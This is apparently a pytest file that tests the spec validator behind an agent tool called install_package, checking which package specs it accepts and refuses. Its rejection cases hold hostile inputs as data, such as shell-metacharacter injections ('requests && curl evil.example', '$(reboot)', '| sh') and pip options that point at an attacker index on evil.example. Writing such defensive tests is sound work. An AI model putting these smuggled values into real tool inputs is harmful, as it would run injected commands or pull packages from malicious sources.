"""install_package's spec validation: one requirement, URL or path; everything else named and refused."""

from __future__ import annotations

import pytest

from ipyfence.errors import ToolInputError
from ipyfence.packages.spec import parse_spec


@pytest.mark.parametrize(
    ("spec", "kind", "name"),
    [
        ("tabulate", "requirement", "tabulate"),
        ("tabulate==0.9.0", "requirement", "tabulate"),
        ("  numpy >= 1.20  ", "requirement", "numpy"),
        ("pkg[extra1,extra2]>=1,<2", "requirement", "pkg"),
        ("torch==2.13.0+cpu", "requirement", "torch"),
        ("Django~=5.0", "requirement", "Django"),
        ("git+https://github.com/org/repo.git", "url", None),
        ("git+https://github.com/org/repo.git@v1.2#egg=repo&subdirectory=python", "url", None),
        ("https://example.org/pkg-1.0.tar.gz", "url", None),
        ("file:///srv/wheels/pkg-1.0-py3-none-any.whl", "url", None),
        ("pkg @ git+ssh://git@github.com/org/repo.git", "url", "pkg"),
        ("pkg @ file:///srv/src/pkg", "url", "pkg"),
        ("/srv/src/pkg", "path", None),
        ("./vendor/pkg-1.0.tar.gz", "path", None),
    ],
)
def test_accepted(spec: str, kind: str, name: str | None) -> None:
    parsed = parse_spec(spec)
    assert parsed.text == spec.strip()
    assert parsed.kind == kind
    assert parsed.name == name


@pytest.mark.parametrize(
    ("spec", "says"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("-r requirements.txt", "'-r' is a pip option"),
        ("-e git+https://github.com/org/repo.git", "'-e' is a pip option"),
        ("--index-url=https://evil.example/simple", "'--index-url' is a pip option"),
        ("--extra-index-url https://evil.example", "'--extra-index-url' is a pip option"),
        ("requests --index-url https://evil.example", "contains the pip option '--index-url'"),
        ("requests -i https://evil.example", "contains the pip option '-i'"),
        ("requests numpy", "more than one package"),
        ("requests,numpy", "more than one package"),
        ("requests\nnumpy", "newline"),
        ("requests; reboot", "shell metacharacter"),
        ("requests && curl evil.example", "shell metacharacter"),
        ("requests | sh", "shell metacharacter"),
        ("$(reboot)", "shell metacharacter"),
        ("`id`", "shell metacharacter"),
        ("requests'", "shell metacharacter"),
        ('requests; python_version > "3"', "environment markers"),
        ("ftp://example.org/pkg.tar.gz", "URL scheme 'ftp' is not supported"),
        ("javascript:alert(1)", "URL scheme 'javascript' is not supported"),
        ("pkg @ ftp://example.org/pkg.tar.gz", "URL scheme 'ftp' is not supported"),
        ("git+https://example.org/a b", "cannot contain spaces"),
        ("requests>=>1", "not a valid requirement"),
        ("req<<1", "not a valid requirement"),
        ("x" * 3000, "characters long"),
    ],
)
def test_rejected_with_reason(spec: str, says: str) -> None:
    with pytest.raises(ToolInputError) as info:
        parse_spec(spec)
    message = str(info.value)
    assert message.startswith("install_package rejected")
    assert says in message


def test_rejected_message_shows_the_spec_briefly() -> None:
    with pytest.raises(ToolInputError) as info:
        parse_spec("requests numpy " + "y" * 500)
    assert len(str(info.value)) < 400
